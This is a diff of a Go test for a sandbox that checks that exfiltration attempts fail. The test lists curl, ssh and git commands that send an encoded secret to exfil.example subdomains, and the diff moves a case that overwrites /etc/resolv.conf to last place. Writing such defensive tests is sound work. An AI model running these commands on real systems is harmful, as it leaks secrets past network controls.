@@ -127,11 +127,14 @@ func TestAttackA1_NamesDoNotLeave(t *testing.T) {
 		"plain via proxy": `curl -sS --fail --max-time 10 http://c2VjcmV0.exfil.example/`,
 		"ssh":             `ssh -o BatchMode=yes -o ConnectTimeout=5 c2VjcmV0.exfil.example`,
 		"git":             `GIT_TERMINAL_PROMPT=0 git ls-remote https://c2VjcmV0.exfil.example/x`,
-		"another server":  `printf 'nameserver 192.0.2.53\n' > /etc/resolv.conf; getent hosts other.exfil.example`,
 	} {
 		if r := h.inside(identity, script); r.Code == 0 {
 			t.Errorf("%s: got success: %s", name, r.Stdout)
 		}
+	}
+	// Last, since the bottle has no resolver after it.
+	if r := h.inside(identity, `printf 'nameserver 192.0.2.53\n' > /etc/resolv.conf; getent hosts other.exfil.example`); r.Code == 0 {
+		t.Errorf("another server: got success: %s", r.Stdout)
 	}
 	h.run(0, "", "stop", identity)
 	audit, err := os.ReadFile(h.Home + "/state/" + identity + "/audit.jsonl")
